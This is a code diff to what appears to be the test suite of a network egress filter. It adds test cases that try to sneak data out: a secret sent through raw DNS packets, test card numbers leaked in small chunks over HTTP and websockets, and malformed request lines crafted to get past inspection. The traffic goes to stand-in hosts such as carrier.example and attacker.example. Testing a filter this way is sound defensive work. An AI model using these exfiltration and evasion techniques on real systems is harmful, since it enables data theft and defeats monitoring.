@@ -100,6 +100,18 @@ def heavy(outcome):
     return sum(len(r["data"]) for r in outcome.reached if r["kind"] == "data") > 20_000
 
 
+def numbered(outcome):
+    """A whole number arrived, over the messages of a conversation or the fields of forms."""
+    parts = [r["data"] for r in outcome.reached if r["kind"] == "data"]
+    fields = b"".join(re.findall(rb"piece=([^ &\r\n]*)", b"\n".join(parts)))
+    return b"4111111111111111" in b"".join(p for p in parts if len(p) <= 8) or b"4111111111111111" in fields
+
+
+def cards(outcome):
+    """More than ten times as many as the user was shown."""
+    return len({n for r in outcome.reached if r["kind"] == "data" for n in re.findall(rb"card (4\d{15})", r["data"])}) > 20
+
+
 def relayed(outcome):
     return any(r["kind"] == "relayed" and b"attacker.example" in r["data"] for r in outcome.reached)
 
@@ -291,6 +303,12 @@ for n, piece in enumerate(pieces(report.encode().hex(), 60)[:20]):
     query(f"{piece}.n{n}.carrier.example", kind=16)
     query(f"{piece}.n{n}.carrier.example", kind=10)
 """, allow=[WILD], rule="dns_tunnel"),
+    # Of what is no query nothing leaves, and the log knows of it.
+    NetAttempt(10, "data in messages that are no query", "T1071.004", """
+name = bytes([len(secret)]) + secret.encode() + b"\\7carrier\\7example\\0"
+for flags, count, kind, more in ((0x100, 2, b"\\0\\1\\0\\1", name + b"\\0\\1\\0\\1"), (0x2100, 1, b"\\0\\1\\0\\1", b""), (0x100, 1, b"\\0\\x10\\0\\3", b""), (0x100, 1, b"\\0\\xff\\0\\1", b"x")):
+    datagram(name_server(), 53, struct.pack("!HHHHHH", 7, flags, count, 0, 0, 0) + name + kind + more)
+""", allow=[WILD], rule="bad_request", alert=False, effect=carried),
     refused(10, "DNS of another server", "T1071.001|T1041|T1571", """
 for tcp in (False, True):
     query(secret + ".attacker.example", server="8.8.8.8", tcp=tcp)
@@ -482,6 +500,23 @@ spread(first="GET /x?" + "&".join(piece + "=1" for piece in encoded) + " HTTP/1.
 for piece in encoded:
     spread(first=f"GET /v1/{piece}/page HTTP/1.1")
 """, rule="passage_leaves", effect=segmented),
+    # An answer to two numbers is none to two others each time, and not to nine.
+    NetAttempt(8, "personal data, a little at a time, by one answer", "T1030", """
+def number(n):
+    digits = "4%014d" % (n * 7919 % 10 ** 14)
+    checked = sum(int(d) if at % 2 else sum(divmod(2 * int(d), 10)) for at, d in enumerate(digits))
+    return digits + str(-checked % 10)
+cards = iter(range(1, 1000))
+for count in [2] * 25 + [9] * 5:
+    web("http://inspected.example/in", "".join("name Anna Kovacs, card %s\\n" % number(next(cards)) for _ in range(count)))
+""", rule="personal_data_leaves", alert=False, effect=cards, answered=True, options=("--ask-timeout", "3s"), limit=150),
+    # Digits of several messages are put together as those of a key are.
+    NetAttempt(9, "personal data in pieces", "T1041", WEBSOCKET + """
+people = "name Anna Kovacs, card 4111111111111111, name Bert Smit, card 5500005555555559. "
+websocket("inspected.example", *pieces(people, 4))
+for piece in pieces(people, 8):
+    web("http://inspected.example/in", "piece=" + urllib.parse.quote_plus(piece))
+""", rule="personal_data_leaves", alert=False, effect=numbered),
     NetAttempt(8, "what heads carry counts", "T1030", """
 for n in range(20):
     web("http://small.example/", headers={"X-Note": "%d " % n + "a word or two " * 100})
@@ -494,6 +529,23 @@ said = said.replace("HTTP/1.1", "http/1.1").replace(" /in ", "\\t/in\\t")
 for before in ("POST", "\\r\\npost"):
     talk("opaque.example", 8080, before + said)
 """, allow=['{ host = "opaque.example", ports = [8080] }'], rule="passage_leaves", effect=carried),
+    # Python splits the line at every blank of Latin-1, Node takes the methods and versions of RTSP, others any word.
+    NetAttempt(29, "a request line that only some servers read", "T1041", """
+body = b"\\r\\nHost: opaque.example:8080\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(report) + report.encode()
+lines = [b"POST" + blank + b"/in" + blank + b"HTTP/1.1" for blank in (b"\\xa0", b"\\x85", b"\\x1c", b"\\x1d", b"\\x1e", b"\\x1f", b"\\xe2\\x80\\x83")]
+lines += [b"SET_PARAMETER /in RTSP/1.0", b"GET_PARAMETER /in rtsp/1.1", b"X_SOURCE /in ICE/1.0", b"\\x1cPOST /in HTTP/1.1", b"{ /in HTTP/1.1", b"post /in\\x01 HTTP/1.1"]
+for line in lines:
+    talk("opaque.example", 8080, line + body)
+    mark()
+    with socket.create_connection(("opaque.example", 8080)) as s:
+        try:
+            for part in (line[:6], line[6:], body):
+                s.sendall(part)
+                time.sleep(0.1)
+            s.recv(10)
+        except OSError as e:
+            print("no:", e)
+""", allow=['{ host = "opaque.example", ports = [8080] }'], rule="bad_request", alert=False, effect=carried),
     NetAttempt(10, "a key in names below an allowed domain", "T1071.004", """
 query(KEY.lower() + ".carrier.example")
 query("-".join(pieces(KEY.lower(), 5)) + ".carrier.example")
